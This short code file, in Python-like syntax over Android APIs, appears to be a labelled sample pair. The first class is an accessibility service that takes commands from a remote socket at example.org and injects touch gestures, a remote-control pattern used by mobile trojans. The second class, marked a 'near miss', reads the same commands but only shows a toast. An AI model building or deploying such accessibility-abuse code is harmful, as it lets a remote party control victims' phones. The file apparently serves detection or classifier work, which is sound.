permissions("INTERNET", "RECEIVE_SMS")

@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Hand(AccessibilityService):
    def onServiceConnected(self):
        Thread(Line(self)).start()
    def onAccessibilityEvent(self, event):
        pass
    def onInterrupt(self):
        pass

class Line(Runnable):
    hand: Hand
    def __init__(self, hand: Hand):
        self.hand = hand
    def run(self):
        orders = DataInputStream(Socket("example.org", 4000).getInputStream())
        while True:
            self.press(orders.readInt())
    def press(self, order: int):
        path = Path()
        path.moveTo(1, 1)
        stroke = GestureDescription_StrokeDescription(path, 0, 50)
        touch = GestureDescription_Builder().addStroke(stroke).build()
        self.hand.dispatchGesture(touch, None, None)

# near miss: follows the network's numbers on a counter of its own; touches nothing
class Line(Runnable):
    hand: Hand
    def __init__(self, hand: Hand):
        self.hand = hand
    def run(self):
        orders = DataInputStream(Socket("example.org", 4000).getInputStream())
        while True:
            self.press(orders.readInt())
    def press(self, order: int):
        Toast.makeText(self.hand, String.valueOf(self.hand), order).show()
